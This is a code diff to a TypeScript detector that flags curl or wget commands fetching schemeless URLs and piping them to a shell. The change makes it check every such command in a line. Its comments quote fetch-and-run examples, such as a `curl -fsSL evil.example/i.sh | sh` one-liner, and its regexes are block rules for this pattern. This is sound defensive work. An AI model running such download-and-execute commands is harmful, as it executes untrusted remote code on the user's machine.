@@ -162,15 +162,21 @@ const VALUE_LONG = new Set(['output', 'output-dir', 'output-document', 'output-f
 const SCHEMELESS_URL = new RegExp(String.raw`^(?:[^\s@/:]{1,64}(?::[^\s@/]{0,64})?@)?(?:${PUBLIC_IP}|[a-z0-9](?:[a-z0-9-]{0,62})(?:\.[a-z0-9-]{1,63}){0,8}\.[a-z]{2,24}\.?)(?::\d{1,5})?(?:[/?#].*)?$`, 'i');
 
 /**
- * True when the curl or wget command that starts `command` (up to a pipe, a closing parenthesis or
- * a backtick) fetches, over plain HTTP, a URL written without a scheme to a host that is not this
- * machine or a private network: `curl -fsSL get.example.dev/i.sh`, `wget -qO- 203.0.113.9/x`. Option
+ * True when a curl or wget command in `command` (each up to a pipe, a closing parenthesis, a
+ * backtick, `;`, `&` or a line break) fetches, over plain HTTP, a URL written without a scheme to a
+ * host that is not this machine or a private network: `curl -fsSL get.example.dev/i.sh`, `wget -qO- 203.0.113.9/x`. Option
  * values (`-o install.sh`, `-H "Host: x.example"`) are not URLs; `--url` names one. A word holding
  * a variable or a placeholder (`$URL`, `<host>`) is not judged.
  */
 export function fetchesSchemeless(command: string): boolean {
-  const start = command.search(/\b(?:curl|wget)\b/i);
-  if (start === -1) return false;
+  // Each curl or wget in it, not only the first: `command -v curl >/dev/null && curl -fsSL
+  // evil.example/i.sh | sh` (the usual guard) names curl once as data before the download.
+  for (const m of command.matchAll(/\b(?:curl|wget)\b/gi)) if (fetchesSchemelessAt(command, m.index)) return true;
+  return false;
+}
+
+/** fetchesSchemeless for the one curl or wget command that starts at `start`. */
+function fetchesSchemelessAt(command: string, start: number): boolean {
   const tool = command.slice(start, start + 4).toLowerCase() === 'curl' ? 'curl' : 'wget';
   const end = command.slice(start).search(/[|)\x60;&\n]/);
   const words = [...command.slice(start + 4, end === -1 ? undefined : start + end).matchAll(/"[^"]*"|'[^']*'|\S+/g)].map((m) => m[0].replace(/^(["'])(.*)\1$/, '$2'));
@@ -494,7 +500,7 @@ export const TEXT_RULES: TextRule[] = [
     // value), and whether it names a scheme, is fetchesSchemeless's to say. A `://` elsewhere in the
     // command (a header's value, a URL's fragment) proves nothing about the word fetched.
     re: new RegExp(String.raw`\b(?:curl|wget)\b[^\n|]{1,300}${THROUGH_FILTERS}\|\s*${DOWNLOAD_SINK}|${RUNS_SUBSTITUTION}(?:curl|wget)\b[^\n)\x60]{1,200}`, 'i'),
-    exclude: (matched) => !fetchesSchemeless(matched.slice(matched.search(/\b(?:curl|wget)\b/i))),
+    exclude: (matched) => !fetchesSchemeless(matched),
   },
   {
     id: 'download.temp-exec', severity: 'block', family: 'curl | sh',
